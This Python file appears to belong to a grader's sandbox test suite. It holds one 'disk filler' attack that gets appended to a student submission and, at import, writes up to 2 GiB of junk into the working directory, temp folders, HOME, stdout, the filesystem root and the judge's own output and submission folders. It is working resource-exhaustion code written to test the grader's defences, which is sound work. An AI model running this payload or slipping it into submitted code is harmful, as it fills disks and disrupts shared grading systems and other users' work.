"""The disk: writing until it fails everywhere it can name.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: disk filler -------------------------------------------------------------------------

# Parameters: disk_filler() in tests/attack_recipes.py rewrites these two statements.
_ATK_FILL_TARGETS = ["cwd", "TMPDIR", "HOME", "stdout", "/tmp", "/var/tmp", "/dev/shm", "/",
                     "canary", "out", "submissions", "own"]
_ATK_FILL_CAP = 2048  # MiB, at most, per target


def _atk_fill():
    import errno
    import signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails instead
    block = bytes([0xA5]) * 2**20
    where = {"cwd": _atk_os.getcwd(), "TMPDIR": _atk_os.environ.get("TMPDIR", ""),
             "HOME": _atk_os.environ.get("HOME", ""), "canary": _ATK["canary"],
             "out": _ATK["out"], "submissions": _ATK["submissions"],
             "own": _atk_own_package()}
    seen, results, total = set(), [], 0
    for target in _ATK_FILL_TARGETS:
        if target == "stdout":  # its log, wherever the judge keeps it
            written, why = 0, "cap"
            try:
                while written < _ATK_FILL_CAP * 2**20:
                    written += _atk_os.write(1, block)
            except OSError as error:
                why = errno.errorcode.get(error.errno, "error")
            results.append(f"stdout={written // 2**20}:{why}")
            continue
        folder = where.get(target, target)
        short = target.strip("/").replace("/", "_") or "root"
        real = _atk_os.path.realpath(folder) if folder else ""
        if not folder or real in seen:
            continue
        seen.add(real)
        if not _ATK_ARMED and not _atk_in_scratch(folder):
            results.append(f"{short}=disarmed")
            continue
        written, index, why = 0, 0, "cap"
        while written < _ATK_FILL_CAP * 2**20:
            path = _atk_os.path.join(folder, f"fill-{_ATK['token']}-{index}")
            index += 1
            try:
                with open(path, "wb", buffering=0) as stream:
                    while written < _ATK_FILL_CAP * 2**20:
                        count = stream.write(block)
                        written += count
                        if count < len(block):
                            raise OSError(errno.EFBIG, "short write")
            except OSError as error:
                why = errno.errorcode.get(error.errno, "error")
                if error.errno == errno.EFBIG:
                    continue
                break
        total += written
        results.append(f"{short}={written // 2**20}:{why}")
    return total // 2**20, results


_ATK_FILLED = _atk_fill()
_atk_replace_stubs(_atk_raising(
    _atk_report("FILLED", total_mib=_ATK_FILLED[0], where=",".join(_ATK_FILLED[1]))))
